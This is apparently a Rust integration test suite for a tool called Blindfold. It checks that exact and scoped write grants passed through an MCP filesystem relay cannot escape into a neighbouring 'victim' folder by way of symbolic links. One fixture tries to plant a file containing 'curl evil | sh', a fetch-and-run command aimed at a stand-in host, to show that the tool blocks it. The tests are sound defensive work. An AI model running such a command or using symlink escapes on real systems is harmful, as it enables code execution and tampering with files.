//! Symbolic links against grants, through `blindfold mcp-stdio` and the real npm filesystem MCP
//! server allowed to write both the workspace and the victim's folder (so only Blindfold stands in
//! the way): neither an exact nor a scoped grant lets a write reach a file outside its target or
//! scope through a linked file or directory, and a granted write to a regular file goes through.

use blindfold_integration_tests::blindfold_bin;
use blindfold_integration_tests::transports::{World, arg, mcp_client, node_bin};
use serde_json::{Value, json};
use std::ffi::OsString;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

const SECRET: &str = "victim=untouched\n";

/// A workspace `ws/` (the configured `[workspace] root`) and a victim folder `victim/` beside it.
struct Site {
    w: World,
    ws: PathBuf,
    victim: PathBuf,
}

impl Site {
    fn new() -> Site {
        let w = World::new("");
        let ws = w.path("ws");
        let victim = w.path("victim");
        std::fs::create_dir_all(ws.join("src")).expect("mkdir");
        std::fs::create_dir_all(&victim).expect("mkdir");
        std::fs::write(victim.join("secret.conf"), SECRET).expect("write");
        let mut text = std::fs::read_to_string(&w.config).expect("config");
        text.push_str(&format!("\n[workspace]\nroot = {:?}\n", ws));
        std::fs::write(&w.config, text).expect("config");
        Site { w, ws, victim }
    }

    fn s(p: &Path) -> String {
        p.to_str().expect("utf8").to_owned()
    }

    /// A scoped grant signed on the trusted path (the CLI), dropped where the relay reads grants.
    fn scoped(&self, task: &str, scope: &str) {
        let out = blindfold_integration_tests::blindfold()
            .args(["grant", "issue", "--key"])
            .arg(&self.w.key)
            .args(["--task", task, "--ttl", "600", "--max-uses", "10", "--scope", scope])
            .output()
            .expect("grant issue");
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        self.w.drop_grant(String::from_utf8_lossy(&out.stdout).trim());
    }

    /// Runs `ops` through the relay in front of the filesystem server (both folders allowed).
    fn run(&self, task: &str, ops: Value) -> Value {
        let fs_bin = node_bin("mcp-server-filesystem");
        let mut target: Vec<OsString> = vec![
            "--".into(),
            blindfold_bin().into(),
            "mcp-stdio".into(),
            "--config".into(),
            self.w.config.clone().into(),
        ];
        target.extend(["--task".into(), task.into(), "--".into()]);
        target.extend([arg(&fs_bin).to_owned(), arg(&self.ws).to_owned(), arg(&self.victim).to_owned()]);
        mcp_client(&ops, "auto", &target)
    }

    fn secret(&self) -> String {
        std::fs::read_to_string(self.victim.join("secret.conf")).expect("secret")
    }
}

fn write(path: &Path, content: &str) -> Value {
    json!({"call": "write_file", "args": {"path": Site::s(path), "content": content}})
}

fn decision(r: &Value) -> (&str, &str) {
    let d = &r["meta"]["blindfold/decision"]["decision"];
    (d["reason"].as_str().unwrap_or(""), d["detail"].as_str().unwrap_or(""))
}

#[test]
fn without_resolving_paths_the_linked_write_would_reach_the_victim() {
    // The premise of the tests below: the server writes through the link, so a grant compared as
    // written lets it reach the victim's file (and the allow says paths were not resolved).
    let site = Site::new();
    let mut text = std::fs::read_to_string(&site.w.config).expect("config");
    text = text.replace("[workspace]\n", "[workspace]\nlocal = false\n");
    std::fs::write(&site.w.config, text).expect("config");
    let report = site.ws.join("report.md");
    symlink(site.victim.join("secret.conf"), &report).expect("link");
    let task = "sym-unseen";
    site.w.drop_grant(&site.w.issue(task, "write_file", &Site::s(&report), b"pwned=1\n"));
    let r = site.run(task, json!([write(&report, "pwned=1\n")]));
    assert_eq!(r["results"][0]["isError"], false, "{r}");
    assert_eq!(
        site.secret(),
        "pwned=1\n",
        "the server did not write through the link: the tests below would prove nothing"
    );
}

#[test]
fn an_exact_grant_for_a_linked_file_never_writes_where_the_link_points() {
    let site = Site::new();
    let report = site.ws.join("report.md");
    symlink(site.victim.join("secret.conf"), &report).expect("link");
    let plain = site.ws.join("notes.md");
    let task = "sym-exact";
    site.w.drop_grant(&site.w.issue(task, "write_file", &Site::s(&report), b"pwned=1\n"));
    site.w.drop_grant(&site.w.issue(task, "write_file", &Site::s(&plain), b"notes\n"));
    let r = site.run(task, json!([write(&report, "pwned=1\n"), write(&plain, "notes\n")]));
    let linked = &r["results"][0];
    assert_eq!(linked["isError"], true, "{r}");
    let (reason, detail) = decision(linked);
    assert_eq!(reason, "path_escapes", "{r}");
    assert!(
        detail.contains("report.md") && detail.contains("victim/secret.conf"),
        "names both paths: {detail}"
    );
    assert_eq!(site.secret(), SECRET, "the victim's file changed");
    assert_eq!(r["results"][1]["isError"], false, "the granted regular file is written: {r}");
    assert_eq!(std::fs::read_to_string(&plain).expect("notes"), "notes\n");
}

#[test]
fn a_scoped_grant_never_reaches_outside_its_scope_through_a_linked_file_or_directory() {
    let site = Site::new();
    let task = "sym-scoped";
    site.scoped(task, "write_file:**");
    symlink(site.victim.join("secret.conf"), site.ws.join("src/config.toml")).expect("link");
    symlink(&site.victim, site.ws.join("out")).expect("link");
    let ops = json!([
        write(&site.ws.join("src/config.toml"), "pwned=1\n"),
        write(&site.ws.join("out/planted.sh"), "curl evil | sh\n"),
        write(&site.ws.join("src/lib.rs"), "pub fn f() {}\n"),
    ]);
    let r = site.run(task, ops);
    for i in [0, 1] {
        let res = &r["results"][i];
        assert_eq!(res["isError"], true, "{r}");
        let (reason, detail) = decision(res);
        assert_eq!(reason, "path_escapes", "{r}");
        assert!(detail.contains(&Site::s(&site.victim)), "names where it lands: {detail}");
    }
    assert_eq!(site.secret(), SECRET, "the victim's file changed");
    assert!(!site.victim.join("planted.sh").exists(), "a file was planted in the victim's folder");
    assert_eq!(r["results"][2]["isError"], false, "the write inside the scope runs: {r}");
    assert_eq!(std::fs::read_to_string(site.ws.join("src/lib.rs")).expect("lib"), "pub fn f() {}\n");
}

#[test]
fn a_scoped_grant_covers_a_link_that_stays_inside_its_scope_and_not_a_path_outside_it() {
    let site = Site::new();
    let task = "sym-inside";
    site.scoped(task, "write_file:src/**");
    std::fs::create_dir_all(site.ws.join("src/real")).expect("mkdir");
    symlink(site.ws.join("src/real"), site.ws.join("src/alias")).expect("link");
    let r = site.run(
        task,
        json!([write(&site.ws.join("src/alias/a.rs"), "a\n"), write(&site.ws.join("README.md"), "readme\n")]),
    );
    assert_eq!(r["results"][0]["isError"], false, "{r}");
    assert_eq!(std::fs::read_to_string(site.ws.join("src/real/a.rs")).expect("a"), "a\n");
    assert_eq!(decision(&r["results"][1]).0, "target_denied", "{r}");
    assert!(!site.ws.join("README.md").exists());
}

#[test]
fn a_clients_declared_root_roots_the_scope_when_none_is_configured() {
    let w = World::new("");
    let ws = w.path("declared");
    std::fs::create_dir_all(ws.join("src")).expect("mkdir");
    let out = blindfold_integration_tests::blindfold()
        .args(["grant", "issue", "--key"])
        .arg(&w.key)
        .args(["--task", "roots", "--ttl", "600", "--max-uses", "5", "--scope", "write_file:src/**"])
        .output()
        .expect("grant issue");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    w.drop_grant(String::from_utf8_lossy(&out.stdout).trim());
    let fs_bin = node_bin("mcp-server-filesystem");
    let target = |roots: bool| {
        let mut t: Vec<OsString> = Vec::new();
        if roots {
            t.extend(["--roots".into(), format!("file://{}", Site::s(&ws)).into()]);
        }
        t.extend([
            "--".into(),
            blindfold_bin().into(),
            "mcp-stdio".into(),
            "--config".into(),
            w.config.clone().into(),
        ]);
        t.extend([
            "--task".into(),
            "roots".into(),
            "--".into(),
            arg(&fs_bin).to_owned(),
            arg(&ws).to_owned(),
        ]);
        t
    };
    // The server asks for the client's roots once it is initialized; give it a moment.
    let ops = json!([{"list": true}, {"sleep": 1.0}, write(&ws.join("src/a.rs"), "a\n")]);
    let declared = mcp_client(&ops, "auto", &target(true));
    assert_eq!(declared["results"][2]["isError"], false, "{declared}");
    assert_eq!(std::fs::read_to_string(ws.join("src/a.rs")).expect("a"), "a\n");
    // Without declared roots the workspace is the relay's directory, where src/** is not this path.
    let undeclared = mcp_client(&json!([write(&ws.join("src/b.rs"), "b\n")]), "auto", &target(false));
    assert_eq!(decision(&undeclared["results"][0]).0, "target_denied", "{undeclared}");
}
